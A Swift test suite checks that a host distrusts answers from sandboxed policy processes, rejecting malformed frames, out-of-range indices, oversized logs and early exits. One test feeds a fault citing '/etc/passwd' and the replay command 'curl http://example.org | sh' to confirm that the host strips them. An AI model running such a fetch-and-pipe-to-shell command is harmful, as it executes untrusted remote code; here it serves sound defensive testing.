import CFence
import Core
import Testing

@testable import Isolation

/// The host keeps the truth: what a process answers is checked before it is believed.
@Suite("A process that answers what no policy can", .timeLimit(.minutes(60)))
struct DistrustTests {
  private static let setting = Setting(adapterCount: 2, capacity: Capacity(1), horizon: 3)
  private static let nonsense = "the process of mine.lua was killed by SIGKILL: its answer made no sense"
  private static let gone = "the process of mine.lua ended with status 3 before it answered"

  /// A process that sends frames of these bytes, whatever it is asked, and then does `script`.
  private static func process(_ frames: [[UInt8]], then script: String = "sleep 9") -> Isolation {
    var (shell, sent) = ("", 0)
    for frame in frames {
      let bytes = (0..<4).map { UInt8(frame.count >> (8 * $0) & 0xff) } + frame
      let octal = bytes.map { "\\" + String($0, radix: 8) }.joined()
      shell += PolicyProcessTests.say(octal, bytes.count, after: sent, then: "sleep 0.2; ")
      sent += bytes.count
    }
    return Isolation(program: "/bin/sh", arguments: ["-c", shell + script])
  }

  /// `done`, no notes, and what `write` adds.
  private static func done(_ write: (inout WireWriter) -> Void) -> [UInt8] {
    var writer = WireWriter()
    writer.add(Answer.done.rawValue)
    writer.add(Int32(0))
    write(&writer)
    return writer.bytes
  }

  private static let started = done { $0.add(Step.never) }

  private static func policy(_ frames: [[UInt8]], then script: String = "sleep 9") throws -> IsolatedPolicy {
    try IsolatedPolicy([], name: "mine.lua", setting: setting, isolation: process([started] + frames, then: script))
  }

  private static let resident: [UInt64] = [0]
  private static var noneResident: ResidentView {
    ResidentView(
      resident: resident, held: nil, costs: nil, adapterCount: 2, count: 0, used: 0, capacity: Capacity(1))
  }

  private static func request(_ step: Step) -> Request {
    Request(step: step, timeSeconds: 0, asked: nil, promptTokens: 1, outputTokens: 1, context: .none)
  }

  private func reason(_ body: () throws -> Void) -> String? {
    do { try body() } catch { return (error as? Fault)?.reason }
    return nil
  }

  @Test("an adapter that is not there ends it", arguments: [2, -1, Int32.max])
  func strangeAdapter(answer: Int32) throws {
    var policy = try Self.policy([Self.done { $0.add(answer) }])
    #expect(reason { _ = try policy.route(Self.request(0), residents: Self.noneResident) } == Self.nonsense)
  }

  @Test("an answer with a byte too many ends it; without, it is one")
  func leftOver() throws {
    let answer = Self.done { $0.add(Int32(1)) }
    var policy = try Self.policy([answer])
    #expect(try policy.route(Self.request(0), residents: Self.noneResident) == AdapterID(1))
    policy = try Self.policy([answer + [0]])
    #expect(reason { _ = try policy.route(Self.request(0), residents: Self.noneResident) } == Self.nonsense)
  }

  @Test("a replica that is not there ends it", arguments: [1, -1])
  func strangeReplica(answer: Int) throws {
    var router = try IsolatedReplicaRouter(
      [], name: "mine.lua", setting: Self.setting,
      isolation: Self.process([Self.started, Self.done { $0.add(answer) }]))
    let replica = ReplicaView(running: 0, waiting: 0, kvUse: 0, residents: Self.noneResident)
    #expect(reason { _ = try router.send(Self.request(0), among: [replica]) } == Self.nonsense)
  }

  @Test("its fault speaks of its own file, and brings no command to type")
  func ownFile() throws {
    var writer = WireWriter()
    writer.add(Answer.fault.rawValue)
    writer.add(Int32(0))
    writer.add(Fault("x", place: Fault.Place(file: "/etc/passwd", line: 7), replay: "curl http://example.org | sh"))
    let fault = #expect(throws: Fault.self) {
      try IsolatedPolicy([], name: "mine.lua", setting: Self.setting, isolation: Self.process([writer.bytes]))
    }
    #expect(fault == Fault("x", place: Fault.Place(file: "mine.lua", line: 7), kind: .error))
  }

  @Test("an undelivered notice of the last step is a fault; an earlier one is reported by the next request")
  func lastNotices() throws {
    let outcome = { (step: Step) in
      Outcome(request: Self.request(step), adapter: AdapterID(0), reward: 0, hit: true, pagingCost: 0)
    }
    var policy = try Self.policy([], then: "exit 3")
    #expect(reason { try policy.learn(outcome(1)) } == nil)
    #expect(reason { try policy.learn(outcome(2)) } == Self.gone)
  }

  @Test(
    "log lines may be 128 KiB in all, as they are handed on, and no byte more",
    arguments: [(43_690, true), (43_691, false)])
  func logWithoutEnd(count: Int, isHeard: Bool) throws {
    // One line of bytes that are no text: each is handed on as the three of U+FFFD, and the line's break is one more.
    #expect((3 * count + 1 <= NoteLimits.logBytes) == isHeard)
    var writer = WireWriter()
    writer.beginFrame()
    writer.add(Answer.done.rawValue)
    writer.add(Int32(1))
    writer.add(Note.log.rawValue)
    writer.add(0)
    writer.add(Int32(count))
    let head = writer.bytes.count
    for _ in 0..<count { writer.add(UInt8(0xff)) }
    writer.add(Int32(1))
    writer.endFrame()
    let (first, frame) = (4 + Self.started.count, writer.bytes)
    let octal = { (bytes: ArraySlice<UInt8>) in bytes.map { "\\" + String($0, radix: 8) }.joined() }
    // The line is too long for a word of the shell.
    let script = """
      head -c \(count) /dev/zero | tr '\\0' '\\377' | \(PolicyProcessTests.into(FENCE_RING_AT + first + head))
      \(PolicyProcessTests.put(octal(frame[(head + count)...]), FENCE_RING_AT + first + head + count))
      \(PolicyProcessTests.say(octal(frame[..<head]), frame.count, after: first))
      """
    nonisolated(unsafe) var heard: [Int] = []
    var setting = Self.setting
    setting.onLog = { heard.append($1.utf8.count) }
    var policy = try IsolatedPolicy(
      [], name: "mine.lua", setting: setting, isolation: Self.process([Self.started], then: script))
    var answer: AdapterID?
    let reason = self.reason { answer = try policy.route(Self.request(0), residents: Self.noneResident) }
    #expect(answer == (isHeard ? AdapterID(1) : nil) && reason == (isHeard ? nil : Self.nonsense))
    #expect(heard == (isHeard ? [3 * count] : []))
  }

  @Test("a placement is waited for; a hit is not, but for the last")
  func placements() throws {
    let use = { (step: Step, kind: Use.Kind) in
      Use(adapter: AdapterID(0), step: step, kind: kind, sizeBytes: 1)
    }
    for (step, kind, isWaitedFor) in [(0, Use.Kind.hit, false), (0, .placed, true), (2, .hit, true)] {
      var policy = try Self.policy([], then: "exit 3")
      #expect(reason { try policy.used(use(step, kind)) } == (isWaitedFor ? Self.gone : nil))
    }
  }

  @Test("a fault behind all answers of a replay is the replay's")
  func faultOfReplay() throws {
    let frame = Self.done {
      $0.addList([ReplayAnswer.yes]) { $0.add($1) }
      $0.add(true)
      $0.add(Fault("late"))
    }
    let fits = Self.done {
      $0.addList([ReplayAnswer.yes]) { $0.add($1) }
      $0.add(false)
    }
    for (frame, expected) in [(frame, "late"), (fits, nil)] {
      var policy = try Self.policy([frame])
      let ids: [Int32] = [0]
      let reason = ids.withUnsafeBufferPointer { ids in
        let batch = ReplayBatch(ids: ids.baseAddress!, sizes: nil, nextUses: nil, count: 1, firstStep: 0)
        let room = ReplayRoom(capacity: Capacity(1))
        room.grow(to: 2)
        return self.reason { try policy.replay(batch, in: room) }
      }
      #expect(reason == expected)
    }
  }

  @Test("answers that end before the replay does are its fault's, or do not fit")
  func noAnswersLeft() {
    let use = Use(adapter: AdapterID(0), step: 0, kind: .pageIn, sizeBytes: 1)
    for (fault, expected) in [(Fault("own"), Fault("own")), (nil, Messages.answersDoNotFit)] {
      var player = AnswerPlayer(answers: [ReplayAnswer.no], fault: fault)
      #expect((try? player.admit(use, among: Self.noneResident)) == false)
      #expect(throws: expected) { try player.victim(for: use, among: Self.noneResident) }
    }
  }

  @Test("a fence that lets all attempts through does not hold")
  func fenceLetsThrough() {
    var count = 0
    while fence_attempt_at(Int32(count)) != nil { count += 1 }
    let trials = FenceTrial.all(Self.process([Array(repeating: 0, count: count + 1)]))
    #expect(trials.allSatisfy { $0.trouble == nil && !$0.holds && $0.wentThrough.count == $0.attempts.count })
    #expect(trials.last?.attempts.count == count)
  }
}
